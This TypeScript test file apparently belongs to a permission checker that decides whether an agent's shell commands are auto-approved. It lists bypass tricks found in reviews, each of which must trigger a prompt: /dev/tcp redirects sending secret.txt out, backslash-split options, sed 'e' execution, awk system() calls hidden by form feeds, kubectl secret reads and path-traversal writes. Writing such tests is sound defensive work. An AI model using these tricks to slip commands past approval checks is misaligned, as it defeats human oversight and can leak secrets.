// Ways in that two independent reviews found with real bash, after the option, script and variable
// rules: a descriptor opened on a network connection, lines joined by a trailing backslash, options
// that change which code runs, operands that name what runs, creates or is reached, patterns that
// spell an assigning builtin's options, and words after `--` that reach what runs.
import * as assert from 'node:assert/strict';
import { check } from './helpers/approvalCheck';



/** One test per case: the command asks under the rules, for the reason given. */
function itAsks(cases: Array<[string, string[], RegExp]>): void {
  for (const [command, always, reason] of cases) {
    it(`${JSON.stringify(command)} asks under ${JSON.stringify(always)}`, () => {
      const result = check(command, always);
      assert.equal(result.autoApproved, false, result.reason);
      assert.match(result.reason, reason);
    });
  }
}

/** One test per case: the command is still approved under the rules. */
function itStaysApproved(cases: Array<[string, string[]]>): void {
  for (const [command, always] of cases) {
    it(`${JSON.stringify(command)} stays approved under ${JSON.stringify(always)}`, () => {
      const result = check(command, always);
      assert.equal(result.autoApproved, true, result.reason);
    });
  }
}

describe('command signatures: what the independent review found', () => {
  const asks: Array<[string, string[], RegExp]> = [
    ['cat secret.txt 3</dev/tcp/127.0.0.1/9999 >&3', ['cat README.md'], /\/dev\/tcp\/127\.0\.0\.1\/9999.*network connection/],
    ['exec 3</dev/tcp/127.0.0.1/9997; git status >&3', ['git status'], /network connection/],
    ['cat README.md 0</dev/udp/127.0.0.1/53', ['cat README.md'], /network connection/],
    ['cat README.md < "$f"', ['cat README.md'], /file named by an expansion/],
    ['git status >&3', ['git status'], /duplicates the descriptor 3/],
    ['git status 2>&4', ['git status'], /duplicates the descriptor 4/],
    ['sort README.md -\\\no out', ['sort file'], /backslash at the end of a line/],
    ['find . -name junk -dele\\\nte', ["find . -name '*.ts'"], /backslash at the end of a line/],
    ['sed -\\\ni 1p R3.md', ['sed -n 1p f'], /backslash at the end of a line/],
    ['python -m pytest -\\\np evil -q tests', ['python -m pytest'], /backslash at the end of a line/],
    ['python -m pytest --doctest-modules', ['python -m pytest'], /not allowed by any "Always allow" rule/],
    ['kubectl get secrets -o yaml', ['kubectl get pods'], /not allowed by any "Always allow" rule/],
    ['kubectl describe secret db', ['kubectl describe pod web'], /not allowed by any "Always allow" rule/],
  ];
  itAsks(asks);

  const approved: Array<[string, string[]]> = [
    ['cat README.md < notes.txt', ['cat README.md']],
    ['git status 2>&1', ['git status']],
    ['git status 2>/dev/null >&2', ['git status']],
    ['wc -l < /dev/null', ['wc']],
    ['kubectl get pods -n web', ['kubectl get pods']],
  ];
  itStaysApproved(approved);
});

describe('command signatures: lines joined by a trailing backslash', () => {
  const joined: string[] = [
    'echo "it\'s" && sort f -\\\no out',
    "echo $'a\\'b' && sort f -\\\no out",
    'sort f "-\\\no" out',
    'ls # a comment\nsort f -\\\no out',
  ];
  for (const command of joined) {
    it(`${JSON.stringify(command)} asks`, () => {
      const result = check(command, ['sort file', 'echo x', 'ls']);
      assert.equal(result.autoApproved, false, result.reason);
      assert.match(result.reason, /backslash at the end of a line/);
    });
  }

  it('a backslash that ends a line inside single quotes is part of the text, as in a sed insert', () => {
    assert.equal(check("sed '1i\\\nheader' f", ['sed -n 1p f']).autoApproved, true);
  });
});

describe('command signatures: what the second independent review found', () => {
  const asks: Array<[string, string[], RegExp]> = [
    ["printf * ; ls", ["printf '%s\\n' hello", 'ls -la'], /a pattern bash expands into words that may become an option/],
    ['read * < f; cat README.md', ['read -r line', 'cat README.md'], /a pattern bash expands/],
    ['x=-v; printf $x PATH evil; cat README.md', ["printf '%s\\n' hello", 'cat README.md'], /where it reads its options/],
    ['x=-v; printf "$x" PATH evil', ["printf '%s\\n' hello"], /where it reads its options/],
    ['read -aPATH < f', ['read -r line'], /sets PATH from its input/],
    ['git log -p', ['git log --oneline'], /`git log -p` is not allowed/],
    ['node -C evil index.js', ['node index.js'], /`node -C` is an option these rules do not know/],
    ['python -x report.py', ['python report.py'], /`python -x` is an option these rules do not know/],
    ['python -O check.py', ['python check.py'], /`python -O` is an option these rules do not know/],
    ['python -m pytest tools/deploy.py', ['python -m pytest'], /`python -m pytest tools\/deploy.py` is not allowed/],
    ['node --test tools/deploy.js', ['node --test'], /`node --test tools\/deploy.js` is not allowed/],
    ['python -m pytest *', ['python -m pytest'], /is a pattern bash expands/],
    ['cargo test -- --logfile victim.txt', ['cargo test'], /`cargo test -- --logfile victim.txt` is not allowed/],
    ['echo owned | tee -- -/../../victim.txt', ['tee /dev/null', 'echo hi'], /writes its input into the file -\/..\/..\/victim.txt/],
    ['uniq -- README.md -/../../victim.txt', ['uniq -c sorted.txt'], /writes into the file -\/..\/..\/victim.txt/],
    ['xxd -- README.md -/../../victim.txt', ['xxd README.md'], /writes into the file/],
    ['git branch evil', ['git branch -a'], /`git branch evil` is not allowed/],
    ['git tag v9 HEAD~1', ['git tag -l'], /`git tag v9 HEAD~1` is not allowed/],
    ['git fetch http://127.0.0.1:8765/token.git', ['git fetch'], /is not allowed/],
    ['git ls-remote http://127.0.0.1:8765/x.git', ['git ls-remote'], /is not allowed/],
    ['git bundle create victim.txt HEAD', ['git bundle list-heads x.bundle'], /`git bundle create victim.txt HEAD` is not allowed/],
    ['git -p status', ['git status'], /`git -p` is an option these rules do not know|`git -p status` is not allowed/],
  ];
  itAsks(asks);

  const approved: Array<[string, string[]]> = [
    ['git log --oneline -n 5', ['git log']],
    ['git branch -a', ['git branch']],
    ['git fetch --prune', ['git fetch']],
    ['python -m pytest -q -x', ['python -m pytest']],
    ["printf '%s\\n' \"$HOME\"", ['printf']],
    ['sleep 1 & wait $!', ['sleep', 'wait']],
    ['python -I -u tool.py', ['python tool.py']],
  ];
  itStaysApproved(approved);
});

describe('command signatures: what the third independent review found', () => {
  const asks: Array<[string, string[], RegExp]> = [
    ['git status -v', ['git status'], /`git status -v` is not allowed/],
    ['git log -S foo', ['git log --oneline'], /`git log -S foo` is not allowed/],
    ['git log -G foo', ['git log --oneline'], /`git log -G foo` is not allowed/],
    ["git log '--format=%G?'", ['git log --oneline'], /not allowed|may expand/],
    ['git log --pretty=%GK', ['git log --oneline'], /`git log --pretty=%GK` is not allowed/],
    ['git help -w commit', ['git help commit'], /`git help -w commit` is not allowed/],
    ['git commit -e -m msg', ['git commit -m msg'], /`git commit -e` is not allowed/],
    ['git describe --tags --always --dirty', ['git describe --tags --always'], /`git describe --dirty` is not allowed/],
    ['git ls-files -m', ['git ls-files'], /`git ls-files -m` is not allowed/],
    ['git merge evil', ['git merge main2'], /`git merge evil` is not allowed/],
    ['git add c.dat', ['git add README.md'], /`git add c.dat` is not allowed/],
    ["sed -n ':a e touch marker' f", ['sed -n 1p f'], /has `e` after a command/],
    ["sed -n ':x w marker' f", ['sed -n 1p f'], /has `w` after a command/],
    ["sed -n 's/zz/y/;tx e touch marker\n:x' f", ['sed -n 1p f'], /has `e` after a command/],
    ["awk -F:\f'{print $1}' 'BEGIN{system(\"touch m\")}' f", ["awk '{print $1}' f"], /form feed, vertical tab or carriage return/],
    ["awk -F:\v'{print $1}' x f", ["awk '{print $1}' f"], /form feed, vertical tab or carriage return/],
    ['node build.js', ['node --check build.js'], /`node build.js` is not allowed|`node --check` is an option/],
    ['bash x.sh', ['bash -n x.sh'], /`bash x.sh` is not allowed/],
    ['perl x.pl', ['perl -c x.pl'], /`perl x.pl` is not allowed|`perl -c` is an option/],
    ['nohup git status', ['git status'], /`nohup git status` is not allowed/],
  ];
  itAsks(asks);

  itStaysApproved([['git log --oneline -n 3', ['git log']], ["sed -n ':a;N;ba' f", ['sed']], ['git commit -m other', ['git commit -m msg']]]);
});
